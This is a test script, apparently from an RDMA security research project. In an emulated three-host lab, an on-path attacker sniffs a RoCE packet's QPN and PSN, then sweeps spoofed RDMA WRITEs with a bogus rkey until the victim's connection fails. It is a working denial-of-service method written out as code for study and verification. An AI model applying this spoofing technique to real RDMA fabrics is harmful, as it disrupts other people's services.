# SPDX-License-Identifier: MIT
# A2 on real rxe against a third-party victim: ibv_rc_pingpong runs between
# hosts 1 and 2. Host 3 watches the wire like an on-path attacker, reads the
# destination QPN and current PSN from one BTH header, and sweeps forward
# from there with RDMA WRITEs carrying a bogus rkey, spoofing host 2. The
# first one whose PSN matches puts host 1's QP into the error state: pingpong
# must fail instead of finishing its iterations. (Host 2, whose requests are
# then never acknowledged, retries forever; it is stopped by timeout.)
. "$(dirname "$0")/common.bash"

atk=$build/tools/attack/rdmasec-attack
[ -x "$atk" ] || fail "build rdmasec-attack first ($atk)"

cat >"$work/attacker.sh" <<ATTACKER
set -eu
# Wait for one SEND Only (BTH opcode 4: host 2's request PSN space) from
# host 2 to host 1 and read its BTH; tcpdump -x, as tshark starts too slowly.
hex=\$(tcpdump -i fabbr -nn -x -c 1 'udp dst port 4791 and src host 10.77.0.2 and dst host 10.77.0.1 and udp[8] == 4' 2>/dev/null |
	awk '/^[[:space:]]*0x[0-9a-f]+:/ { for (i = 2; i <= NF; i++) printf "%s", \$i }')
# IPv4 (20) + UDP (8) bytes, then the BTH: DestQP at bytes 33..35, PSN at 37..39.
qpn=0x\${hex:66:6} psn=\$((0x\${hex:74:6}))
echo "attacker: saw qpn \$qpn psn \$psn on the wire"
$atk qp-error --dst 10.77.0.1 --src 10.77.0.2 --qpn \$qpn --psn-sweep \$((psn + 1)):200000 \
	--iface fab3 --kind rkey --rkey 0x1234 --json
ATTACKER

pp='ibv_rc_pingpong -d $FABRIC_DEV -g $FABRIC_GID_INDEX -s 64 -n 200000'
"$fabric" run --hosts 3 --timeout 200 \
	--on 1 "timeout 120 $pp; echo \"pingpong exit \$?\"" \
	--on 2 "fabric wait-port 18515 && timeout 45 $pp \$(fabric ip 1); echo \"pingpong exit \$?\"" \
	--on 3 "bash $work/attacker.sh" >"$work/out" 2>&1 || { cat "$work/out"; fail "the fabric run failed"; }
grep -v 'local address\|remote address' "$work/out"

expect_match "$work/out" '^\[h3\] attacker: saw qpn 0x[0-9a-f]+ psn [0-9]+' "the attacker saw no RoCE traffic"
expect_match "$work/out" '^\[h3\] \{"cmd":"qp-error".*"ok":true' "qp-error did not send its sweep"
# Exit 1 from pingpong itself, not 124 from timeout: host 1 saw the error.
expect_match "$work/out" '^\[h1\] pingpong exit 1$' "the victim's pingpong (host 1) did not fail by itself"
expect_match "$work/out" '^\[h1\] Failed status' "host 1 printed no completion error"
! grep -q '^\[h1\] .*200000 iters in' "$work/out" || fail "host 1 finished all iterations despite the attack"
echo "attack_qp_error: ok"
